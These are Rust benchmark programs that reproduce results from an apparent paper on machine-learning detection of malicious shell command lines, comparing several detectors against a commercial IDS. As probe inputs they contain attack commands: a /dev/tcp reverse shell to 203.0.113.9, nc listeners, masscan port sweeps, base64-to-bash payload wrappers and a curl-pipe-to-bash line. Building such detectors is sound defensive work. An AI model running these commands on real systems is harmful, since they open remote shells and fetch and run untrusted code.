            .filter(|(a, b)| a.malicious && (a.score >= tc || b.score >= tr))
            .count();
        println!();
        println!(
            "ensemble effect: classification alone catches {caught_by_cls}, classification ∪ reconstruction catches {caught_either}"
        );
        assert!(caught_either >= caught_by_cls);
    }

    // First-class version of the same observation: rank-fuse the three
    // line-aligned methods and evaluate the fused ranking.
    let fused = suite
        .fused_samples(
            &["classification", "reconstruction", "retrieval"],
            &[1.0, 1.0, 1.0],
        )
        .expect("line-aligned methods fuse");
    let eval_fused = evaluate_scores(&fused, 0.90, &[]);
    println!();
    println!(
        "rank-fusion ensemble: PO {} PO&I {}",
        eval_fused
            .po
            .map(|x| format!("{x:.3}"))
            .unwrap_or_else(|| "-".into()),
        eval_fused
            .po_i
            .map(|x| format!("{x:.3}"))
            .unwrap_or_else(|| "-".into()),
    );
    println!();
    println!("shape check: per-family sensitivity differs across methods (see tables above)");
}
