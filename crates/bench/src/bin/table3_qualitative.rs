//! Reproduces **Table III**: in-box vs out-of-box qualitative pairs.
//!
//! For each of the paper's example pairs, we verify the structure the
//! table demonstrates: the commercial IDS catches the left column and
//! misses the right, while the tuned classifier assigns the right column
//! a high intrusion score — generalization across flags (`nc -lvnp` →
//! `nc -ulp`), wrappers (`masscan` → `sh masscan.sh`), interpreters
//! (`java` → `python3`) and argument schemes (`http` → `socks5`).
//!
//! Run: `cargo run --release --bin table3_qualitative -p bench`

use bench::methods::run_classification;
use bench::{Args, Experiment};
use cmdline_ids::eval::evaluate_scores;
use cmdline_ids::tuning::{ClassificationTuner, TuneConfig};
use rand::SeedableRng;

fn main() {
    let args = Args::parse();
    println!(
        "Table III reproduction: train={} seed={}",
        args.train_size, args.seed
    );
    let exp = Experiment::setup(args.seed, args.config());
    let seed = exp.method_seed("classification");
    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);

    // Tune the classifier exactly as in Table I/II. Fitting from the
    // same seed the engine derives makes this tuner identical to the
    // one behind `run_classification` below, so probe scores and the
    // reference distribution come from one model.
    let lines = exp.train_lines();
    let labels = exp.train_labels();
    let tuner = ClassificationTuner::fit(
        &exp.pipeline,
        &lines,
        &labels,
        &TuneConfig::scaled(),
        &mut rng,
    );

    // Score the de-duplicated test set to build the reference score
    // distribution: the paper's Table III claim is that out-of-box
    // variants "show high intrusion scores", i.e. they rank near the
    // top of everything the commercial IDS is silent on.
    let samples = run_classification(&exp, seed);
    let eval = evaluate_scores(&samples, 0.90, &[]);
    println!(
        "calibrated threshold (u=0.90 in-box recall): {:?}",
        eval.threshold
    );
    let mut reference: Vec<f32> = samples
        .iter()
        .filter(|s| !s.in_box)
        .map(|s| s.score)
        .collect();
    reference.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let percentile = |score: f32| -> f64 {
        let below = reference.iter().filter(|&&s| s < score).count();
        100.0 * below as f64 / reference.len().max(1) as f64
    };
    // "High score" = top 2% of the non-in-box test distribution.
    let high_idx =
        ((reference.len() as f64 * 0.98) as usize).min(reference.len().saturating_sub(1));
    let high_bar = reference[high_idx];

    // The paper's Table III pairs (anonymized `*` filled with targets).
    let pairs: &[(&str, &str)] = &[
        ("nc -lvnp 4444", "nc -ulp 4444"),
        (
            "masscan 203.0.113.9 -p 0-65535 --rate=1000 >> tmp.txt",
            "sh /root/masscan.sh 203.0.113.9 -p 0-65535",
        ),
        (
            "bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
            "java -cp tmp.jar \"bash=bash -i >& /dev/tcp/203.0.113.9/9001\"",
        ),
        (
            "export https_proxy=\"http://203.0.113.9:8080\"",
            "export https_proxy=\"socks5://203.0.113.9:1080\"",
        ),
        (
            "java -jar tmp.jar -C \"bash -c {echo,cGF5bG9hZA==} {base64,-d} {bash,-i}\"",
            "python3 tmp.py -p \"bash -c {echo,cGF5bG9hZA==} {base64,-d} {bash,-i}\"",
        ),
    ];

    println!();
    println!(
        "{:<58} | {:>6} | {:>5} || {:<58} | {:>6} | {:>5} | {:>6}",
        "in-box", "ids", "model", "out-of-box", "ids", "model", "pctile"
    );
    let mut generalized = 0;
    for (inbox, outbox) in pairs {
        let ids_in = exp.ids.is_alert(inbox);
        let ids_out = exp.ids.is_alert(outbox);
        let m_in = tuner.score(&exp.pipeline, inbox);
        let m_out = tuner.score(&exp.pipeline, outbox);
        let pct = percentile(m_out);
        println!(
            "{:<58} | {:>6} | {:>5.3} || {:<58} | {:>6} | {:>5.3} | {:>5.1}%",
            &inbox[..inbox.len().min(58)],
            if ids_in { "ALERT" } else { "silent" },
            m_in,
            &outbox[..outbox.len().min(58)],
            if ids_out { "ALERT" } else { "silent" },
            m_out,
            pct,
        );
        if !ids_out && m_out >= high_bar {
            generalized += 1;
        }
    }

    println!();
    println!(
        "out-of-box variants silent at the IDS but ranked in the model's top 2%: {generalized}/{}",
        pairs.len()
    );

    // Shape assertions: every in-box line alerts; no out-of-box line
    // does; the model generalizes to a majority of the variants.
    for (inbox, outbox) in pairs {
        assert!(exp.ids.is_alert(inbox), "IDS must catch in-box: {inbox}");
        assert!(
            !exp.ids.is_alert(outbox),
            "IDS must miss out-of-box: {outbox}"
        );
    }
    // How many variants generalize depends on which out-of-box patterns
    // happened to appear *benign-labeled* in this training draw (the
    // label-noise effect the paper discusses in Section IV-D); require
    // at least two clear generalizations and report the rest.
    assert!(
        generalized >= 2,
        "the tuned model should rank at least two out-of-box variants in its top 2%"
    );
    println!("shape check: IDS catches left / misses right; model generalizes — ok");
}
