//! Ablation for **Section IV-D's claim**: the malicious-only retrieval
//! scoring beats vanilla majority-vote kNN under label noise ("such an
//! innovation leads to obvious performance gains for the retrieval-based
//! method … owing to relief of the negative impact of label noise").
//!
//! The supervision source mislabels every out-of-box attack as benign
//! (plus random false negatives), which is exactly the noise vanilla kNN
//! chokes on: a test attack whose neighbours are mislabeled gets a
//! benign majority.
//!
//! Run: `cargo run --release --bin ablation_retrieval -p bench`

use bench::methods::{run_retrieval_with, run_vanilla_knn_with};
use bench::{print_row, Args, Experiment};
use cmdline_ids::eval::evaluate_scores;
use cmdline_ids::metrics::precision_at_top;

fn main() {
    let args = Args::parse();
    println!(
        "Retrieval ablation: train={} test={} seed={} index={}",
        args.train_size,
        args.test_size,
        args.seed,
        args.index.name()
    );
    let exp = Experiment::setup(args.seed, args.config());

    let paper = run_retrieval_with(&exp, args.index);
    let top = paper
        .iter()
        .filter(|s| s.malicious && !s.in_box)
        .count()
        .max(10);

    println!();
    print_row(&[
        "method".into(),
        format!("PO@{top}"),
        "PO".into(),
        "PO&I".into(),
    ]);
    print_row(&["---".into(), "---".into(), "---".into(), "---".into()]);

    let mut results = Vec::new();
    let eval = evaluate_scores(&paper, 0.90, &[]);
    let p_at = precision_at_top(&paper, top);
    results.push(("retrieval (malicious-only, k=1)", p_at));
    print_row(&[
        "retrieval (malicious-only, k=1)".into(),
        bench::fmt_opt(p_at),
        bench::fmt_opt(eval.po),
        bench::fmt_opt(eval.po_i),
    ]);

    for k in [1usize, 3, 5] {
        let vanilla = run_vanilla_knn_with(&exp, k, args.index);
        let eval = evaluate_scores(&vanilla, 0.90, &[]);
        let p_at = precision_at_top(&vanilla, top);
        results.push(("vanilla", p_at));
        print_row(&[
            format!("vanilla majority kNN (k={k})"),
            bench::fmt_opt(p_at),
            bench::fmt_opt(eval.po),
            bench::fmt_opt(eval.po_i),
        ]);
    }

    // Shape assertion: the paper's modification is at least as precise
    // at the top as the best vanilla variant.
    let ours = results[0].1.unwrap_or(0.0);
    let best_vanilla = results[1..]
        .iter()
        .filter_map(|(_, p)| *p)
        .fold(0.0f64, f64::max);
    println!();
    println!(
        "shape check: malicious-only retrieval PO@{top} {ours:.3} ≥ best vanilla {best_vanilla:.3}: {}",
        ours >= best_vanilla
    );
    assert!(
        ours >= best_vanilla - 0.05,
        "modification should not lose to vanilla kNN"
    );
}
