//! Reproduces **Figure 2**: preprocessing with the Bash parser and the
//! command-occurrence filter.
//!
//! Prints (a) kept/dropped counts per removal mechanism and (b) the
//! command-occurrence table with anonymized argument columns, exactly in
//! the figure's presentation style (`cd ********`).
//!
//! Run: `cargo run --release --bin fig2_preprocessing -p bench`

use bench::{Args, Experiment};
use corpus::GroundTruth;

fn main() {
    let args = Args::parse();
    println!(
        "Figure 2 reproduction: train={} seed={}",
        args.train_size, args.seed
    );

    let exp = Experiment::setup(args.seed, args.config());
    let stats = exp.pipeline.train_stats();

    println!();
    println!("preprocessing outcome over {} logged lines:", stats.total());
    println!("  kept                      : {}", stats.kept);
    println!("  dropped by parser         : {}", stats.invalid);
    println!("  dropped (empty/comment)   : {}", stats.empty);
    println!("  dropped by command filter : {}", stats.filtered);

    // Ground-truth cross-check: how many of the dropped lines were the
    // injected invalid/typo noise?
    let injected_invalid = exp
        .dataset
        .train
        .iter()
        .filter(|r| r.truth == GroundTruth::Invalid)
        .count();
    let injected_typos = exp
        .dataset
        .train
        .iter()
        .filter(|r| r.truth == GroundTruth::BenignTypo)
        .count();
    println!();
    println!("injected noise: {injected_invalid} invalid lines, {injected_typos} typo lines");

    // Figure 2's right side: the occurrence table (top 20), with the
    // anonymized-count presentation.
    println!();
    println!("command occurrence table (top 20):");
    println!("  {:<12} Occurrence", "Command");
    for (name, count) in exp
        .pipeline
        .preprocessor()
        .occurrence_table()
        .into_iter()
        .take(20)
    {
        println!("  {:<12} {}", name, "*".repeat(count.to_string().len() + 5));
    }

    // The figure's example lines, classified live.
    println!();
    println!("figure examples:");
    for line in [
        r#"php -r "phpinfo();""#,
        "python main.py",
        "vim ~/.bashrc",
        "curl https://mirror.example.com/install.sh | bash",
        r#"df -h | grep "/data""#,
        "dcoker attach --sig-proxy=false web-1",
        "chdmod +x install.sh",
        "/*/*/* -> /*/*/* ->",
    ] {
        let parses = shell_parser::classify(line).is_valid();
        let kept = exp.pipeline.preprocessor().keep(line);
        let verdict = if kept {
            "kept"
        } else if parses {
            "dropped by command filter"
        } else {
            "dropped by parser"
        };
        println!("  {verdict:<26} | {line}");
    }

    // Shape assertions: the parser catches the invalid injections, the
    // filter catches typo'd names, and real commands stay.
    assert!(stats.invalid > 0, "parser should have dropped lines");
    assert!(stats.kept > stats.total() / 2, "most lines must survive");
    assert!(!exp.pipeline.preprocessor().keep("dcoker ps"));
    assert!(exp.pipeline.preprocessor().keep("docker ps"));
    println!();
    println!("shape check: parser drops > 0, majority kept, typo filtered — ok");
}
