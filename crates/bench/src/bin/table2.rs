//! Reproduces **Table II**: PO@100 and PO@1000 of all four methods on
//! their top out-of-box predictions.
//!
//! Paper values:
//!
//! | method                 | PO@100        | PO@1000       |
//! |------------------------|---------------|---------------|
//! | Reconstruction         | 0.984 ± 0.032 | 0.535 ± 0.092 |
//! | Classification         | 1.000 ± 0.000 | 0.949 ± 0.003 |
//! | Classification (multi) | 1.000 ± 0.000 | 0.998 ± 0.001 |
//! | Retrieval              | 0.970         | 0.569         |
//!
//! At our scale the test set holds thousands (not millions) of lines, so
//! the cutoffs scale with the out-of-box intrusion count: we report
//! PO@(T/10) and PO@T where T is the out-of-box attack total, keeping
//! the "small top / large top" contrast the paper's 100/1000 encodes.
//!
//! All four methods run through the scoring engine over one shared
//! embedding of the training lines and the de-duplicated test split.
//!
//! Run: `cargo run --release --bin table2 -p bench -- --runs 5`

use bench::methods::MethodSuite;
use bench::{print_row, Args, Experiment};
use cmdline_ids::eval::MeanStd;
use cmdline_ids::metrics::{precision_at_top, ScoredSample};

fn cutoffs(samples: &[ScoredSample]) -> (usize, usize) {
    let total = samples
        .iter()
        .filter(|s| s.malicious && !s.in_box)
        .count()
        .max(10);
    ((total / 10).max(1), total)
}

const METHODS: [(&str, &str); 4] = [
    ("reconstruction", "Reconstruction"),
    ("classification", "Classification"),
    ("multiline", "Classification (multi)"),
    ("retrieval", "Retrieval"),
];

fn main() {
    let args = Args::parse();
    println!(
        "Table II reproduction: train={} test={} runs={} seed={}",
        args.train_size, args.test_size, args.runs, args.seed
    );

    type Row = (&'static str, Vec<Option<f64>>, Vec<Option<f64>>);
    let mut rows: Vec<Row> = METHODS
        .iter()
        .map(|(_, label)| (*label, Vec::new(), Vec::new()))
        .collect();

    for run_idx in 0..args.runs {
        let seed = args.seed + run_idx as u64;
        eprintln!("[run {}/{}] setup (seed {seed})…", run_idx + 1, args.runs);
        let exp = Experiment::setup(seed, args.config());

        eprintln!(
            "[run {}/{}] scoring all methods over the shared embedding…",
            run_idx + 1,
            args.runs
        );
        let suite = MethodSuite::new(&exp)
            .with_index(args.index)
            .with_reconstruction()
            .with_classification()
            .with_multiline()
            .with_retrieval(1)
            .run()
            .expect("suite run");

        for (idx, (name, _)) in METHODS.iter().enumerate() {
            let samples = suite.samples(name).expect("registered method");
            let (small, large) = cutoffs(&samples);
            rows[idx].1.push(precision_at_top(&samples, small));
            rows[idx].2.push(precision_at_top(&samples, large));
        }
    }

    let fmt_ms = |values: &[Option<f64>]| match MeanStd::from_runs(values.iter().copied()) {
        Some(m) => format!("{m}"),
        None => "-".to_string(),
    };

    println!();
    print_row(&[
        "method".into(),
        "PO@small (≈100)".into(),
        "PO@large (≈1000)".into(),
    ]);
    print_row(&["---".into(), "---".into(), "---".into()]);
    let mut means = Vec::new();
    for (name, small, large) in &rows {
        print_row(&[(*name).to_string(), fmt_ms(small), fmt_ms(large)]);
        means.push((
            *name,
            MeanStd::from_runs(small.iter().copied()).map(|m| m.mean),
            MeanStd::from_runs(large.iter().copied()).map(|m| m.mean),
        ));
    }

    println!();
    println!("paper (Table II): Recon 0.984/0.535, Classif 1.000/0.949, Multi 1.000/0.998, Retr 0.970/0.569");

    // Shape checks the paper emphasizes:
    // 1. classification beats reconstruction & retrieval at the large cutoff,
    // 2. multi-line ≥ single-line on top predictions.
    let get = |name: &str| {
        means
            .iter()
            .find(|(n, _, _)| *n == name)
            .and_then(|(_, _, large)| *large)
            .unwrap_or(0.0)
    };
    let classif = get("Classification");
    let multi_small = means
        .iter()
        .find(|(n, _, _)| *n == "Classification (multi)")
        .and_then(|(_, s, _)| *s)
        .unwrap_or(0.0);
    let single_small = means
        .iter()
        .find(|(n, _, _)| *n == "Classification")
        .and_then(|(_, s, _)| *s)
        .unwrap_or(0.0);
    println!();
    println!(
        "shape check: classif@large {classif:.3} > recon@large {:.3}: {}; classif@large > retr@large {:.3}: {}; multi@small {multi_small:.3} ≥ single@small {single_small:.3}: {}",
        get("Reconstruction"),
        classif > get("Reconstruction"),
        get("Retrieval"),
        classif > get("Retrieval"),
        multi_small >= single_small,
    );
}
