//! Ablation (extension beyond the paper): the masking probability `q`.
//!
//! Section II-B fixes `q` without reporting a sweep. This binary
//! pre-trains the same encoder at several `q` values and measures the
//! quality of the resulting embedding space through the downstream
//! classification method's top-v precision — the signal the rest of the
//! system actually consumes.
//!
//! Run: `cargo run --release -p bench --bin ablation_masking -- --train 5000 --test 2000`

use bench::methods::run_classification;
use bench::{print_row, Args, Experiment};
use cmdline_ids::metrics::precision_at_top;
use cmdline_ids::pipeline::IdsPipeline;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    let args = Args::parse();
    println!(
        "masking-probability ablation: train={} test={} seed={}",
        args.train_size, args.test_size, args.seed
    );

    // One dataset shared across q values so only pre-training differs.
    let base = Experiment::setup(args.seed, args.config());

    println!();
    print_row(&["q".into(), "PO@small".into(), "mlm role".into()]);
    print_row(&["---".into(), "---".into(), "---".into()]);

    let mut results: Vec<(f64, f64)> = Vec::new();
    for q in [0.05f64, 0.15, 0.30, 0.50] {
        let mut rng = StdRng::seed_from_u64(args.seed ^ 0xfeed);
        let mut config = args.config();
        config.mask_prob = q;
        let pipeline = IdsPipeline::pretrain(&config, &base.dataset, &mut rng);
        let exp = Experiment::from_parts(
            config,
            base.dataset.clone(),
            pipeline,
            base.ids.clone(),
            args.seed,
        );
        let samples = run_classification(&exp, exp.method_seed("classification"));
        let small = samples
            .iter()
            .filter(|s| s.malicious && !s.in_box)
            .count()
            .max(10)
            / 10;
        let p = precision_at_top(&samples, small.max(1)).unwrap_or(0.0);
        results.push((q, p));
        print_row(&[
            format!("{q:.2}"),
            format!("{p:.3}"),
            if (0.10..=0.20).contains(&q) {
                "(paper's customary range)".into()
            } else {
                String::new()
            },
        ]);
    }

    // Soft shape expectation: moderate masking should not be the worst.
    let p15 = results
        .iter()
        .find(|(q, _)| (*q - 0.15).abs() < 1e-9)
        .map(|(_, p)| *p)
        .unwrap_or(0.0);
    let worst = results
        .iter()
        .map(|(_, p)| *p)
        .fold(f64::INFINITY, f64::min);
    println!();
    println!("shape note: q=0.15 precision {p15:.3}; worst across sweep {worst:.3}");
}
