//! Reproduces the **Section III** unsupervised-detection analysis.
//!
//! The paper's anecdotes: `masscan * -p 0-65535` lands in the top-10
//! PCA reconstruction errors among 10M test lines (error ≈ 230), while
//! "abnormal yet benign" lines (an `mv` with many weird files, an `echo`
//! of long gibberish) also score high — the false-alarm problem that
//! motivates Section IV's supervision.
//!
//! All three unsupervised detectors (PCA, one-class SVM, isolation
//! forest) run through the scoring engine behind the `Detector` trait,
//! over one shared embedding of the fit sample and one of the test
//! lines.
//!
//! Run: `cargo run --release --bin sec3_unsupervised -p bench`

use anomaly::{IsolationForestMethod, OneClassSvmMethod, PcaMethod};
use bench::{Args, Experiment};
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, ScoringEngine};

fn main() {
    let args = Args::parse();
    println!(
        "Section III reproduction: train={} test={} seed={}",
        args.train_size, args.test_size, args.seed
    );
    // Unsupervised detection rests on "the rare occurrence of anomaly"
    // (Section III). The supervised experiments enrich the attack rate
    // for labeled-data coverage; here we keep attacks production-rare so
    // that PCA's principal subspace stays benign.
    let mut config = args.config();
    config.attack_prob = 0.02;
    let exp = Experiment::setup(args.seed, config);

    // Fit on (a sample of) the training lines; embeddings come from the
    // shared store, once per line set.
    let train_lines = exp.train_lines();
    let fit_lines: Vec<&str> = train_lines.iter().step_by(4).copied().collect();
    let store = EmbeddingStore::new(&exp.pipeline);
    let train_view = store.view(&fit_lines, Pooling::Mean);

    // Score the de-duplicated test set plus the paper's anecdotes.
    let dedup = exp.deduped_test();
    let mut lines: Vec<String> = dedup.iter().map(|r| r.line.clone()).collect();
    let mut truth: Vec<bool> = dedup.iter().map(|r| r.truth.is_malicious()).collect();
    let masscan = "masscan 203.0.113.9 -p 0-65535";
    let weird_mv = "mv zz-a1.tmp zz-b2.tmp zz-c3.tmp zz-d4.tmp zz-e5.tmp zz-f6.tmp zz-g7.tmp /tmp";
    let weird_echo = "echo aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeee";
    for probe in [masscan, weird_mv, weird_echo] {
        lines.push(probe.to_string());
        truth.push(probe == masscan);
    }
    let test_view = store.view_of(&lines, Pooling::Mean);

    // Unsupervised methods ignore labels; the engine contract still
    // wants one per training sample.
    let labels = vec![false; fit_lines.len()];
    let run = ScoringEngine::new()
        .register(Box::new(PcaMethod::new(0.95)))
        .register(Box::new(OneClassSvmMethod::new(
            0.1,
            5,
            exp.method_seed("ocsvm"),
        )))
        .register(Box::new(IsolationForestMethod::new(
            50,
            256,
            exp.method_seed("iforest"),
        )))
        .run(&train_view, &labels, &test_view)
        .expect("engine run");
    assert_eq!(
        store.misses(),
        2,
        "fit sample and test lines must each embed exactly once"
    );

    let pca_scores = run.scores("pca").expect("registered").to_vec();
    let ocsvm_scores = run.scores("ocsvm").expect("registered");
    let iforest_scores = run.scores("iforest").expect("registered");

    // Rank of the masscan probe.
    let masscan_idx = lines.len() - 3;
    let masscan_score = pca_scores[masscan_idx];
    let rank = pca_scores.iter().filter(|&&s| s > masscan_score).count() + 1;
    println!();
    println!(
        "masscan probe: PCA reconstruction error {masscan_score:.2}, rank {rank} of {}",
        lines.len()
    );
    let mv_score = pca_scores[lines.len() - 2];
    let echo_score = pca_scores[lines.len() - 1];
    let median = {
        let mut s = pca_scores.clone();
        s.sort_by(|a, b| a.partial_cmp(b).unwrap());
        s[s.len() / 2]
    };
    println!("abnormal-yet-benign probes: mv {mv_score:.2}, echo {echo_score:.2} (median test error {median:.2})");

    // Top-10 listing, as the paper reports the masscan line appearing in.
    let mut order: Vec<usize> = (0..lines.len()).collect();
    order.sort_by(|&a, &b| pca_scores[b].partial_cmp(&pca_scores[a]).unwrap());
    println!();
    println!("top-10 PCA reconstruction errors:");
    for &i in order.iter().take(10) {
        println!(
            "  {:>8.2}  {}  {}",
            pca_scores[i],
            if truth[i] {
                "[intrusion]"
            } else {
                "[benign]   "
            },
            &lines[i][..lines[i].len().min(72)]
        );
    }

    // Detector comparison: mean score of malicious vs benign samples.
    let split_mean = |scores: &[f32]| {
        let (mut m, mut mc, mut b, mut bc) = (0.0f64, 0usize, 0.0f64, 0usize);
        for (s, &t) in scores.iter().zip(&truth) {
            if t {
                m += *s as f64;
                mc += 1;
            } else {
                b += *s as f64;
                bc += 1;
            }
        }
        (m / mc.max(1) as f64, b / bc.max(1) as f64)
    };
    println!();
    println!("detector comparison (mean score: malicious vs benign):");
    for (name, scores) in [
        ("PCA reconstruction", &pca_scores[..]),
        ("one-class SVM", ocsvm_scores),
        ("isolation forest", iforest_scores),
    ] {
        let (m, b) = split_mean(scores);
        println!(
            "  {name:<20} malicious {m:>9.4}  benign {b:>9.4}  separated: {}",
            m > b
        );
    }

    // Shape assertions: the masscan probe ranks high when anomalies are
    // rare; the abnormal-yet-benign probes also exceed the median (the
    // paper's false-alarm phenomenon); every detector separates the
    // class means.
    assert!(
        rank <= lines.len() / 10,
        "masscan should rank in the top 10% (got {rank} of {})",
        lines.len()
    );
    assert!(mv_score > median && echo_score > median);
    for (name, scores) in [
        ("pca", &pca_scores[..]),
        ("ocsvm", ocsvm_scores),
        ("iforest", iforest_scores),
    ] {
        let (m, b) = split_mean(scores);
        assert!(m > b, "{name} failed to separate: {m} vs {b}");
    }
    println!();
    println!("shape check: masscan in top 10%, weird-but-benign probes above median, all detectors separate — ok");
}
