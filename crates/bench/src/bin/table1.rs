//! Reproduces **Table I**: PO and PO&I of Reconstruction /
//! Classification / Retrieval, mean ± std over several runs, at the
//! threshold recalling ≈100% of in-box intrusions — plus the paper's
//! future-work rank-fusion ensemble of the three methods.
//!
//! Paper values (30M/10M production lines, BERT-base):
//!
//! | method         | PO            | PO&I          |
//! |----------------|---------------|---------------|
//! | Reconstruction | 0.913 ± 0.050 | 0.999 ± 0.000 |
//! | Classification | 0.832 ± 0.070 | 0.994 ± 0.003 |
//! | Retrieval      | 0.569         | 0.892         |
//!
//! All three methods run through the scoring engine over one shared
//! embedding of the training lines and the de-duplicated test split.
//!
//! Run: `cargo run --release --bin table1 -p bench -- --runs 5`

use bench::methods::MethodSuite;
use bench::{print_row, Args, Experiment};
use cmdline_ids::eval::{evaluate_scores, MeanStd};

/// The paper sets the threshold to recall "u (for u ≈ 100%)" of the
/// in-box intrusions. With a handful of in-box test samples at
/// reproduction scale, u = 1.0 makes the single weakest sample dictate
/// the threshold; 0.90 matches the paper's "≈100%" semantics robustly.
const U_RECALL: f64 = 0.90;

const FUSED: &[&str] = &["reconstruction", "classification", "retrieval"];

fn main() {
    let args = Args::parse_with_serve();
    println!(
        "Table I reproduction: train={} test={} runs={} seed={} index={}",
        args.train_size,
        args.test_size,
        args.runs,
        args.seed,
        args.index.name()
    );

    let mut recon = (Vec::new(), Vec::new());
    let mut classif = (Vec::new(), Vec::new());
    let mut retrieval = (Vec::new(), Vec::new());
    let mut ensemble = (Vec::new(), Vec::new());
    // Kept for --serve: the replay reuses the final run's experiment
    // (data + pre-trained pipeline) instead of paying a second setup.
    let mut last_exp = None;

    for run_idx in 0..args.runs {
        let seed = args.seed + run_idx as u64;
        eprintln!(
            "[run {}/{}] setting up (seed {seed})…",
            run_idx + 1,
            args.runs
        );
        let exp = Experiment::setup(seed, args.config());

        eprintln!(
            "[run {}/{}] fitting + scoring all methods over the shared embedding…",
            run_idx + 1,
            args.runs
        );
        let suite = MethodSuite::new(&exp)
            .with_index(args.index)
            .with_reconstruction()
            .with_classification()
            .with_retrieval(1)
            .run()
            .expect("suite run");

        let record = |dest: &mut (Vec<Option<f64>>, Vec<Option<f64>>), name: &str| {
            let samples = suite.samples(name).expect("registered method");
            let e = evaluate_scores(&samples, U_RECALL, &[]);
            dest.0.push(e.po);
            dest.1.push(e.po_i);
        };
        record(&mut recon, "reconstruction");
        record(&mut classif, "classification");
        record(&mut retrieval, "retrieval");

        let fused = suite
            .fused_samples(FUSED, &[1.0, 1.0, 1.0])
            .expect("line-aligned methods fuse");
        let e = evaluate_scores(&fused, U_RECALL, &[]);
        ensemble.0.push(e.po);
        ensemble.1.push(e.po_i);
        last_exp = Some(exp);
    }

    let fmt_ms = |ms: Option<MeanStd>| match ms {
        Some(m) => format!("{m}"),
        None => "-".to_string(),
    };

    println!();
    print_row(&["method".into(), "PO".into(), "PO&I".into()]);
    print_row(&["---".into(), "---".into(), "---".into()]);
    for (name, (po, po_i)) in [
        ("Reconstruction", &recon),
        ("Classification", &classif),
        ("Retrieval", &retrieval),
        ("Ensemble (rank fusion)", &ensemble),
    ] {
        print_row(&[
            name.to_string(),
            fmt_ms(MeanStd::from_runs(po.clone())),
            fmt_ms(MeanStd::from_runs(po_i.clone())),
        ]);
    }

    println!();
    println!("paper (Table I): Recon 0.913/0.999, Classif 0.832/0.994, Retr 0.569/0.892");
    println!("(the ensemble row is the paper's future-work item, not a Table I entry)");

    // Shape assertions from the paper: reconstruction and classification
    // both achieve near-perfect overall precision; retrieval trails.
    let mean_of =
        |v: &Vec<Option<f64>>| MeanStd::from_runs(v.clone()).map(|m| m.mean).unwrap_or(0.0);
    let ri = mean_of(&recon.1);
    let ci = mean_of(&classif.1);
    let ti = mean_of(&retrieval.1);
    let ei = mean_of(&ensemble.1);
    println!();
    println!(
        "shape check: PO&I recon {ri:.3} ≥ retrieval {ti:.3}: {}; classif {ci:.3} ≥ retrieval: {}; ensemble {ei:.3}",
        ri >= ti,
        ci >= ti
    );

    if args.serve {
        serve_replay(&args, &last_exp.expect("runs >= 1"));
    }
}

/// `--serve`: fit the Table I methods once more, keep them resident in
/// the streaming scoring service, and replay the de-duplicated test
/// split as 8-line arrivals — proving the online path reproduces the
/// offline table scores bit-for-bit (exact backend) and reporting the
/// streamed throughput.
fn serve_replay(args: &Args, exp: &Experiment) {
    use bench::methods::replay_through_service;
    use cmdline_ids::engine::ScoringEngine;
    use cmdline_ids::tuning::{ReconstructionConfig, TuneConfig};

    println!();
    eprintln!(
        "[--serve] replaying over the final run's experiment (seed {})…",
        exp.seed()
    );
    let engine = ScoringEngine::new()
        .with_index_config(args.index)
        .register(Box::new(cmdline_ids::engine::ReconstructionMethod::new(
            &exp.pipeline,
            ReconstructionConfig::scaled(),
            bench::methods::RECON_MAX_NEGATIVES,
            exp.method_seed("reconstruction"),
        )))
        .register(Box::new(cmdline_ids::engine::ClassificationMethod::new(
            TuneConfig::scaled(),
            exp.method_seed("classification"),
        )))
        .register(Box::new(anomaly::RetrievalMethod::new(1)));
    // The replay is synchronous (each chunk waits for its verdicts
    // before the next is submitted), so a batch window would be pure
    // idle time per request — submit window-less and let the 8-line
    // chunks themselves be the micro-batches.
    let config = serve::ServeConfig {
        batch_window: std::time::Duration::ZERO,
        max_batch: 8,
        workers: 1,
        queue_capacity: 32,
    };
    let report = replay_through_service(exp, engine, config, 8).expect("serve replay");
    println!(
        "--serve replay: {} lines through {:?} in {:.2?} ({:.0} lines/s, {} micro-batches), \
         streamed == batch: {}",
        report.lines,
        report.names,
        report.elapsed,
        report.throughput(),
        report.micro_batches,
        report.bit_identical()
    );
    // Sharded exact merges candidates under the exact scan's own
    // total order, so the bit-parity guarantee covers it too — and a
    // quantized exact scan is still a deterministic full scan, so the
    // streamed replay matches its own batch reference bit for bit
    // whatever the storage format (the name gains a `+f16`/`+i8`
    // suffix, hence `contains`).
    if args.index.name().contains("exact") {
        assert!(
            report.bit_identical(),
            "exact-backend streaming must reproduce the offline table scores bit-for-bit"
        );
    }
}
