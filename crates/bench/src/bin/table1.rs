//! Reproduces **Table I**: PO and PO&I of Reconstruction /
//! Classification / Retrieval, mean ± std over several runs, at the
//! threshold recalling ≈100% of in-box intrusions.
//!
//! Paper values (30M/10M production lines, BERT-base):
//!
//! | method         | PO            | PO&I          |
//! |----------------|---------------|---------------|
//! | Reconstruction | 0.913 ± 0.050 | 0.999 ± 0.000 |
//! | Classification | 0.832 ± 0.070 | 0.994 ± 0.003 |
//! | Retrieval      | 0.569         | 0.892         |
//!
//! Run: `cargo run --release --bin table1 -p bench -- --runs 5`

use bench::methods::{run_classification, run_reconstruction, run_retrieval};
use bench::{print_row, Args, Experiment};
use cmdline_ids::eval::{evaluate_scores, MeanStd};

/// The paper sets the threshold to recall "u (for u ≈ 100%)" of the
/// in-box intrusions. With a handful of in-box test samples at
/// reproduction scale, u = 1.0 makes the single weakest sample dictate
/// the threshold; 0.90 matches the paper's "≈100%" semantics robustly.
const U_RECALL: f64 = 0.90;

fn main() {
    let args = Args::parse();
    println!(
        "Table I reproduction: train={} test={} runs={} seed={}",
        args.train_size, args.test_size, args.runs, args.seed
    );

    let mut recon = (Vec::new(), Vec::new());
    let mut classif = (Vec::new(), Vec::new());
    let mut retrieval = (Vec::new(), Vec::new());

    for run in 0..args.runs {
        let seed = args.seed + run as u64;
        eprintln!("[run {}/{}] setting up (seed {seed})…", run + 1, args.runs);
        let exp = Experiment::setup(seed, args.config());
        let mut rng = exp.method_rng(seed);

        eprintln!("[run {}/{}] reconstruction-based tuning…", run + 1, args.runs);
        let e = evaluate_scores(&run_reconstruction(&exp, &mut rng), U_RECALL, &[]);
        recon.0.push(e.po);
        recon.1.push(e.po_i);

        eprintln!("[run {}/{}] classification-based tuning…", run + 1, args.runs);
